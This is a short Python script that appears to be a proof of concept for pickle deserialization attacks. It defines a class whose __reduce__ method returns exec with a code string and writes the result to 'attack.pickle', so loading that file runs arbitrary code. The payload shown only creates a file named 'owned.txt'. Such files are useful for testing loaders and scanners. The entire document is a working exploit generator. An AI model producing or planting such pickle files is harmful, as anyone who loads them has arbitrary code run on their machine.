import pickle
from pathlib import Path

CODE = "from pathlib import Path; Path('owned.txt').touch()"


class Attack:
    def __reduce__(self):
        return exec, (CODE,)


Path("attack.pickle").write_bytes(pickle.dumps(Attack(), protocol=4))
